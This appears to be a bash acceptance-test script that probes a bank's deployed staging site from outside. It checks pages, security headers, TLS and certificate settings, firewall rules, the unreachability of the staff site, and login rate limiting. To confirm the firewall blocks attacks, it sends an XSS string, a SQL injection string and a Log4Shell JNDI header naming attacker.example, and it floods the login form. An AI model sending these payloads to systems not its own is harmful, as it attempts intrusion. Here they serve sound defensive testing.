#!/usr/bin/env bash
# What can be asked of a deployed environment from outside the bank, with no rights at all: the pipeline asks it of stg
# after each release (the step knows this file by its digest), and anybody may by hand.
#   infra/accept.sh SITE STAFF_SITE     all of it; takes up to six minutes, for the last question floods the log-in
#   infra/accept.sh --program SITE      what the program itself answers, without an edge before it
# Needs bash, curl, openssl and getent. Every question is asked, and one that fails makes the end a failure.
set -uo pipefail
program=
if [ "${1:-}" = --program ]; then program=1; shift; fi
site=${1:?the host of the site} staff=${2:-}
test -n "$program$staff" || { echo "the host of the staff's site?" >&2; exit 2; }
work=$(mktemp -d) failed=0 asked=0
trap 'rm -rf "$work"' EXIT

says() { # MEANING COMMAND…: one question
  asked=$((asked + 1))
  if "${@:2}" >/dev/null 2>&1; then echo "ok    $1"; else echo "FAIL  $1"; failed=$((failed + 1)); fi
}
get() { curl -sS -m 20 "$@"; }
code() { get -o /dev/null -w '%{http_code}' "$@"; }
is() { [[ $(code "${@:2}") =~ ^($1)$ ]]; } # STATUS CURL-WORDS…
head_of() { get -o /dev/null -D - "$@" | tr -d '\r'; }
has() { head_of "https://$site/login" | grep -qi "^$1"; }
lacks() { head_of "https://$site/login" > "$work/head" && test -s "$work/head" && ! grep -qi "^$1" "$work/head"; }
page() { # LANGUAGE PATH SOMETHING-IN-IT
  get -f -H "Accept-Language: $1" "https://$site$2" > "$work/page" && grep -q "<html[^>]* lang=\"$1\"" "$work/page" && grep -q "$3" "$work/page"
}
shakes() { echo | openssl s_client -connect "$site:443" -servername "$site" "$@"; }

# --- the program, its database and its pages ------------------------------------------------------------------------
program_answers() {
  test "$(get -f "https://$site/healthz")" = ok
}
wrong_password_is_told() { # asks the database, and creates nothing
  get -o "$work/page" -w '%{http_code}' -X POST -H "Origin: https://$site" -H 'Accept-Language: ja' \
    --data-urlencode 'email=nobody@accept.example' --data-urlencode 'password=not a password of anybody' \
    "https://$site/login" > "$work/code"
  test "$(cat "$work/code")" = 422 && grep -q 'type="password"' "$work/page" && ! grep -q 'not a password' "$work/page"
}
style_is_kept() {
  local style
  style=$(get -f "https://$site/login" | grep -o '/assets/[^"]*\.css' | head -1)
  test -n "$style" && get -f -D "$work/head" -o /dev/null "https://$site$style" && grep -qi '^cache-control:.*immutable' "$work/head"
}
says 'the site is well' program_answers
says 'the log-in page in Japanese' page ja /login 'type="password"'
says 'the log-in page in English' page en /login 'type="password"'
says 'the registration page in Japanese' page ja /register '<form'
says 'the registration page in English' page en /register '<form'
says 'a log-in of nobody is refused in words, by asking the database' wrong_password_is_told
says 'who is not logged in sees no figures' is 401 "https://$site/holdings"
says 'a page that does not exist is one in words' is 404 "https://$site/no-such-page"
says 'a form from another site is refused' is 403 -X POST -H 'Origin: https://other.example' -d a=b "https://$site/login"
says 'browsers are told to come by TLS only' has 'strict-transport-security: max-age=[0-9]\{8\}'
says 'pages run no foreign scripts and stand in no frames' has "content-security-policy: default-src 'none'.*frame-ancestors 'none'"
says 'pages are stored nowhere' has 'cache-control: no-store'
says 'browsers guess no types' has 'x-content-type-options: nosniff'
says 'addresses of pages are told to nobody else' has 'referrer-policy: same-origin'
says 'no version of any software is told' lacks '\(x-powered-by\|server: .*[0-9]\)'
says 'the style is kept by browsers' style_is_kept

# --- the edge: TLS, the firewall, and what must not be reached -------------------------------------------------------
certificate_good() { shakes -verify_return_error 2>/dev/null | openssl x509 -noout -checkend 1209600; }
refuses_old_tls() { shakes -tls1_2 && ! shakes -tls1_1 -cipher 'ALL:@SECLEVEL=0'; }
large_form() { head -c 70000 /dev/zero | tr '\0' a | code -X POST -H "Origin: https://$site" --data-binary @- "https://$site/login"; }
large_form_refused() { test "$(large_form)" = 403; }
staff_closed() { # its name exists, and nobody here gets a connection: a name that is missing would prove nothing
  getent ahosts "$staff" || return 1
  get -o /dev/null -m 10 "https://$staff/"
  test $? -eq 28 -o $? -eq 7
}
closed_everywhere() { # nor without TLS, nor at the ports of the tasks and the database
  local port
  for port in 80 8080 8081 5432; do
    get -o /dev/null -m 5 "http://$staff:$port/"
    case $? in 7 | 28) ;; *) return 1 ;; esac
  done
}
counts() { # the firewall counts what is sent to the log-in, and then refuses this address for some minutes
  local try answer
  for try in $(seq 420); do # an empty form: the program tries nobody's password
    answer=$(code -X POST -H "Origin: https://$site" -d 'email=&password=' "https://$site/login")
    test "$answer" = 403 && return 0
    test "$try" -lt 120 || sleep 1 # the firewall takes its time to notice
  done
  return 1
}
if [ -z "$program" ]; then
  says 'the certificate is good for a fortnight at least' certificate_good
  says 'TLS 1.3 is spoken' shakes -tls1_3
  says 'TLS 1.2 is spoken, and nothing older' refuses_old_tls
  says 'a plain request is moved to TLS' is 301 "http://$site/"
  says 'the firewall refuses a script in a question' is 403 "https://$site/?q=%3Cscript%3Ealert(1)%3C/script%3E"
  says 'the firewall refuses SQL in a question' is 403 "https://$site/?id=1%27%20OR%20%271%27=%271%27--"
  says 'the firewall refuses a known attack in a header' is 403 -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "https://$site/"
  says 'the firewall refuses a large form' large_form_refused
  says 'the site answers to its own name only' is '403|421' -H 'Host: other.example' "https://$site/"
  says "the staff's site has a name, and gives no connection here" staff_closed
  says "nor at any other port" closed_everywhere
  says 'who guesses too often is refused (the firewall counts)' counts
fi
echo "$((asked - failed)) of $asked hold"
test "$failed" = 0
